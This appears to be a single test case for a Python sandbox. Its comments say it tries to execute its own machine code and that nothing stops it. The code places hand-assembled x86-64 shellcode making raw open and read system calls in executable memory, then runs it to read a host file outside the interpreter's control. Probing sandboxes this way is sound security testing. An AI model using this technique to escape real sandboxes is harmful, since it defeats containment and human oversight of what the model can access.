# Tries: to run machine code of its own in fresh executable memory: it opens the host file by the
# system call itself, without libc or the interpreter.
# Stopped by: nothing forbids machine code; a minimal root holds no such path.
# Bare: yes
import ctypes
import mmap
import struct

path = ctypes.create_string_buffer(context["host_file"].encode())
text = ctypes.create_string_buffer(4096)
code = (b"\xb8\x02\x00\x00\x00\x48\xbf" + struct.pack("<Q", ctypes.addressof(path))
        + b"\x31\xf6\x31\xd2\x0f\x05"                       # open(path, 0, 0)
        + b"\x89\xc7\x31\xc0\x48\xbe" + struct.pack("<Q", ctypes.addressof(text))
        + b"\xba\x00\x10\x00\x00\x0f\x05\xc3")              # return read(it, text, 4096)
for flags in (mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS):
    memory = mmap.mmap(-1, 4096, flags, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    run = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    print(run(), text.value)
